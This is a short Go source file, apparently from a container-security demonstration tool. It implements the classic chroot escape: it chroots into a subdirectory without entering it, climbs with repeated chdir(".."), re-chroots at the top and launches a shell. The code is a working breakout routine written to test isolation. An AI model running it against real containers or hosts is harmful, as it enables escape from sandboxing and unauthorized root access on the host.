package main

// escape.go is a demonstration, not part of the runtime: the classic way a
// root process leaves a chroot. Copy this program into a rootfs and run
// "escape" inside a container to see which kinds of root hold.

import (
	"fmt"
	"os"
)

type escapeCmd struct {
	Command []string `arg:"" optional:"" passthrough:"" name:"cmd" help:"What to run if the escape works (default: /bin/sh)."`
}

// Run chroots into a subdirectory without entering it, so the working
// directory is left outside the new root; chroot(2) does not move it. From
// there ".." is never clamped at the root, so enough "cd .." reach the real
// root, and chroot(".") makes it ours again.
func (e *escapeCmd) Run() error {
	explain(featRoot, "Chroot into a subdirectory but stay outside it, then climb up with chdir(\"..\").")
	if err := os.MkdirAll(".escape", 0o700); err != nil {
		return fmt.Errorf("mkdir .escape: %w", err)
	}
	if err := chroot(".escape"); err != nil {
		return err
	}
	if err := chdirUp(64); err != nil {
		return err
	}
	explain(featRoot, "Make the directory we climbed to the root: if it is the host's, we are out.")
	if err := chroot("."); err != nil {
		return err
	}
	argv := e.Command
	if len(argv) == 0 {
		argv = []string{"/bin/sh"}
	}
	return execve(argv[0], argv, os.Environ())
}
